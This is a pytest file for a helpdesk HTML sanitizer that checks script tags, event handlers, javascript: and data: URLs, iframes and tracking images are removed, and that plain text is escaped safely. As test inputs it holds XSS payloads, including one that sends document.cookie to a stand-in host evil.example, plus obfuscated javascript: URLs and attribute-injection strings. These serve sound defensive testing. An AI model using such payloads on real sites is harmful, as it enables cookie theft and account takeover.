"""HTML from mail and editors: what survives ``clean_html``, how ``html_to_text`` reads, and that
``text_to_html`` shows plain text exactly as it was written."""
from html.parser import HTMLParser

import pytest

from helpdesk.sanitize import clean_html, html_to_text, text_to_html


@pytest.mark.parametrize(("dirty", "gone"), [
    ('<p>Hi</p><script>document.location="https://evil.example/?"+document.cookie</script>', ["script", "evil"]),
    ("<style>body { display: none }</style><p>Hi</p>", ["style", "display"]),
    ('<p onclick="steal()" onmouseover="steal()">Hi</p>', ["onclick", "onmouseover", "steal"]),
    ('<a href="javascript:alert(1)">Hi</a>', ["javascript", "alert"]),
    ('<a href="JaVaScRiPt:alert(1)">Hi</a>', ["javascript", "alert"]),
    ('<a href="jav&#x09;ascript:alert(1)">Hi</a>', ["ascript", "alert"]),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">Hi</a>', ["data:", "base64"]),
    ('<iframe src="https://evil.example/"></iframe><p>Hi</p>', ["iframe", "evil"]),
    ('<p style="background:url(https://evil.example/t.gif)">Hi</p>', ["style", "evil"]),
    ('<form action="https://evil.example/"><input name="pw"></form><p>Hi</p>', ["form", "input", "evil"]),
    ("<svg><script>alert(1)</script></svg><p>Hi</p>", ["svg", "script", "alert"]),
    ('<img src="x" onerror="alert(1)"><p>Hi</p>', ["onerror", "alert"]),
    ("<!-- secret note --><p>Hi</p>", ["secret", "<!--"]),
], ids=["script", "style", "event-handlers", "javascript-url", "javascript-url-mixed-case",
        "javascript-url-with-entity", "data-url", "iframe", "style-attribute", "form", "svg-script", "img-onerror",
        "comment"])
def test_dangerous_html_is_removed_and_the_text_kept(dirty, gone):
    cleaned = clean_html(dirty)
    for fragment in gone:
        assert fragment not in cleaned.lower()
    assert "Hi" in cleaned


def test_remote_images_lose_their_source_but_inline_images_keep_it():
    cleaned = clean_html('<p><img src="https://tracker.example/open.gif?u=1" alt="logo" width="10">'
                         '<img src="cid:screenshot@mail.example" alt="screenshot">'
                         '<img src="/attachments/42" alt="stored"></p>')
    assert "tracker.example" not in cleaned
    assert 'alt="logo"' in cleaned
    assert 'src="cid:screenshot@mail.example"' in cleaned
    assert 'src="/attachments/42"' in cleaned


def test_links_keep_their_target_and_open_without_leaking_the_referrer():
    cleaned = clean_html('<p>See <a href="https://docs.example/manual" onclick="x()">the manual</a>.</p>')
    assert 'href="https://docs.example/manual"' in cleaned
    assert 'rel="nofollow noopener noreferrer"' in cleaned
    assert 'target="_blank"' in cleaned
    assert ">the manual</a>" in cleaned


def test_formatting_people_use_survives():
    html = ("<p><b>Bold</b>, <em>em</em>, <code>code</code></p><blockquote>quoted</blockquote>"
            "<ul><li>one</li></ul><table><tr><td colspan=\"2\">cell</td></tr></table>")
    cleaned = clean_html(html)
    for fragment in ("<b>Bold</b>", "<em>em</em>", "<code>code</code>", "<blockquote>quoted</blockquote>",
                     "<li>one</li>", '<td colspan="2">cell</td>'):
        assert fragment in cleaned


def test_empty_input_gives_empty_output():
    assert clean_html("") == "" and clean_html(None) == ""
    assert html_to_text("") == "" and text_to_html("") == ""


def test_html_to_text_keeps_paragraphs_line_breaks_and_list_items():
    text = html_to_text("<div><p>Hello  Carla,</p><p>the steps:<br>first this</p>"
                        "<ol><li>Unplug it</li><li>Wait &amp; plug in</li></ol><p>Bye</p></div>")
    lines = [line for line in text.splitlines() if line]
    assert lines == ["Hello Carla,", "the steps:", "first this", "- Unplug it", "- Wait & plug in", "Bye"]
    assert "Hello Carla,\n\nthe steps:" in text  # paragraphs stay apart


def test_html_to_text_drops_scripts_styles_and_the_head():
    text = html_to_text("<html><head><title>Mail</title><style>p{}</style></head>"
                        "<body><p>Visible</p><script>hidden()</script></body></html>")
    assert text == "Visible"


def test_text_to_html_escapes_what_looks_like_markup():
    html = text_to_html('Carla <carla@example.test> wrote: use <b> & "quotes"\n<script>alert(1)</script>')
    assert "&lt;carla@example.test&gt;" in html
    assert "use &lt;b&gt; &amp;" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>" not in html and "<b>" not in html


def test_text_to_html_keeps_paragraphs_and_line_breaks_and_links_urls():
    html = text_to_html("First line\nsecond line\n\nNew paragraph: https://docs.example.com/a?b=1&c=2")
    assert html.startswith("<p>First line<br>second line</p><p>New paragraph: ")
    assert '<a href="https://docs.example.com/a?b=1&amp;c=2" rel="nofollow noopener noreferrer"' in html


def test_text_to_html_links_a_url_in_angle_brackets_without_the_brackets():
    # Mail programs and RFC 3986 (appendix C) write URLs in plain text as <https://…>.
    html = text_to_html("Manual: <https://docs.example.com/manual>.")
    assert '<a href="https://docs.example.com/manual" ' in html
    assert html.endswith("</a>&gt;.</p>")


class _Attributes(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", [
    'https://docs.example.com/a"onmouseover="alert(1)',
    "https://docs.example.com/a'onmouseover='alert(1)",
    "https://docs.example.com/<script>alert(1)</script>",
    "javascript:alert(1) and data:text/html,<b>x</b>",
])
def test_text_to_html_links_cannot_be_turned_into_markup(text):
    tags = _Attributes(text_to_html(text)).found
    assert {tag for tag, _ in tags} <= {"p", "a"}
    for tag, attrs in tags:
        if tag == "a":
            assert set(attrs) == {"href", "rel", "target"}
            assert attrs["href"].startswith("https://docs.example.com/")
